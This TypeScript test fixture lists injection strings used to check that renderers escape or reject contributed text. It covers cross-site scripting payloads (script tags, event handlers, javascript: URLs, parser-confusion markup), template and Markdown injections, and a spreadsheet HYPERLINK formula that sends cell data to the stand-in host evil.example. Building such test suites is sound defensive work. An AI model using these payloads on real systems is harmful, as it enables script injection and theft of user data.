/**
 * Strings that try to turn contributed text into code, markup, an address or a formula.
 * Each calls `pwned()` if it succeeds. Every output has to show each as written, or the
 * reader has to refuse it. A double-quoted YAML string holds any of them as `JSON.stringify` writes it.
 */
export const vectors: readonly string[] = [
  // out of text
  "<script>pwned()</script>",
  "<ScRiPt/src=//evil.example/a.js></sCrIpT>",
  "<img src=q onerror=pwned()>",
  "<svg/onload=pwned()>",
  "<svg><set attributeName=x onbegin=pwned() dur=1s />",
  "<details open ontoggle=pwned()><summary>a</summary></details>",
  "<select autofocus onfocus=pwned()>",
  "<audio><source src=q onerror=pwned()></audio>",
  "<body onpageshow=pwned()>",
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:parent.pwned()"></object>',
  '<form action="javascript:pwned()"><button>a</button></form>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<base href="//evil.example/">',
  '<a href="javascript:pwned()">a</a>',
  "<style>*{background:url(//evil.example/q)}</style>",
  '<math><mi><table><mglyph><style><!--</style><b title="--><img src=q onerror=pwned()>">',
  '<noscript><i title="</noscript><img src=q onerror=pwned()>">',
  "<template><script>pwned()</script></template>",
  // out of an attribute
  '"><script>pwned()</script>',
  "'><script>pwned()</script>",
  '" autofocus tabindex=1 onfocus="pwned()',
  "' autofocus tabindex=1 onfocus='pwned()",
  "a onmouseenter=pwned() style=position:fixed;inset:0",
  '"style="background:url(//evil.example/q)',
  "a;background:url(//evil.example/q)",
  // out of an element, a comment or a section
  "</title><script>pwned()</script>",
  "</script><script>pwned()</script>",
  "</style><script>pwned()</script>",
  "</textarea><img src=q onerror=pwned()>",
  "--><script>pwned()</script>",
  "--!><img src=q onerror=pwned()>",
  "<!--<script>pwned()",
  "]]><script>pwned()</script>",
  ']]>]]&gt;<h:script xmlns:h="http://www.w3.org/1999/xhtml">pwned()</h:script>',
  "<![CDATA[<script>pwned()</script>]]>",
  '<?xml-stylesheet href="//evil.example/q.xsl"?>',
  // entities that must not be read twice
  "&lt;script&gt;pwned()&lt;/script&gt;",
  "&#60;img src=q onerror=pwned()&#62;",
  "&amp;lt;b&amp;gt;",
  // addresses
  "javascript:pwned()",
  "jAvAsCrIpT:pwned()//",
  "  javascript:pwned()",
  "java\tscript:pwned()",
  "java\nscript:pwned()",
  "\u0001javascript:pwned()",
  "data:text/html,<script>pwned()</script>",
  "//evil.example/q",
  "https://good.example@evil.example/",
  // out of a string of JSON or JavaScript
  '";pwned();//',
  "\\';pwned();//",
  "\u2028pwned()//\u2029",
  `\${pwned()}`,
  // Markdown and templates
  "[a](javascript:pwned())",
  '![a" onerror="pwned()](q)',
  "[a]: javascript:pwned()\n\n[a]",
  '```"><script>pwned()</script>\n```',
  '{{ "<script>pwned()</script>" | safe }}{% include "../../package.json" %}',
  // spreadsheets and calendars
  '=HYPERLINK("//evil.example/?q="&A1,"a")',
  "a\r\nEND:VEVENT\r\nATTACH:javascript:pwned()",
];
